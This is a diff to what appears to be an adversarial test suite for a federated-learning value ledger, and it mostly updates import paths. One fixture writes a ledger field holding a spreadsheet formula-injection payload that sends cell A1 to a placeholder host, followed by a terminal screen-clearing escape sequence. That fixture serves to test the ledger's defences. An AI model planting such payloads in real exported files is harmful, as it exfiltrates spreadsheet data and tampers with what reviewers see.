@@ -39,7 +39,7 @@ def duplicate_rows_move_value(case: Case) -> list[Action]:
 
     def value_moved(case: Case, results: dict) -> str | None:
         try:
-            from fedvalue.ledger import load_run
+            from fedvalue.run.ledger_tables import load_run
 
             summary = load_run(case.run).summary()
         except Exception:  # noqa: BLE001 - refused: nothing moved
@@ -150,7 +150,7 @@ def client_id_with_escape_sequences(case: Case) -> list[Action]:
 
 WRITER = r"""
 import sys
-from fedvalue.ledger import LedgerWriter
+from fedvalue.run.ledger_tables import LedgerWriter
 writer = LedgerWriter(sys.argv[1], config={"seed": 0})
 row = {"round": 1, "client_id": 3, "method": "ads", "value": None, "stderr": None, "num_examples": None,
        "status": "failed", "noisy": False, "reason": '=HYPERLINK("http://x.example/?"&A1,"ok")\x1b[2J'}
@@ -265,9 +265,9 @@ def training_settings_changed_in_run_json(case: Case) -> list[Action]:
 def weight_times_ten_rebooked(case: Case) -> list[Action]:
     """The last round's first client claims 10× its examples; the round is re-booked with the
     project's own recompute, the checkpoint's state moved to the new mean, all resealed."""
-    from fedvalue.archive import read_round_record, record_path, save_npz, write_round_record
-    from fedvalue.audit_recompute import recompute_books
-    from fedvalue.ledger import csv_lines
+    from fedvalue.run.archive import read_round_record, record_path, save_npz, write_round_record
+    from fedvalue.audit.audit_recompute import recompute_books
+    from fedvalue.run.ledger_tables import csv_lines
     from fedvalue.schema import LEDGER_COLUMNS, ROUND_COLUMNS
     from simulations.noisy_clients import utility_from_run
 
